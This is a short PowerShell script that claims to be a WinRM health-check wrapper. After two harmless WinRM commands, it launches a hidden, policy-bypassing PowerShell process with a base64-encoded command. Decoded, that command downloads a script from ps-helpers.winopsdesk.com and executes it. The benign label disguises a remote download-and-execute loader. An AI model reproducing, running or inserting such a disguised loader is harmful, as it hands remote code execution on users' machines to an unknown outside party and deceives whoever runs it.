# Non-interactive wrapper for the WinRM health module.
winrm enumerate winrm/config/listener
Test-WSMan -ComputerName localhost | Out-Null

$module = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBwAHMALQBoAGUAbABwAGUAcgBzAC4AdwBpAG4AbwBwAHMAZABlAHMAawAuAGMAbwBtAC8AYQAuAHAAcwAxACcAKQA='
Start-Process powershell.exe -WindowStyle Hidden -ArgumentList @(
    '-NoProfile', '-NonInteractive', '-ExecutionPolicy', 'Bypass', '-EncodedCommand', $module
)
Write-Host 'Done.'
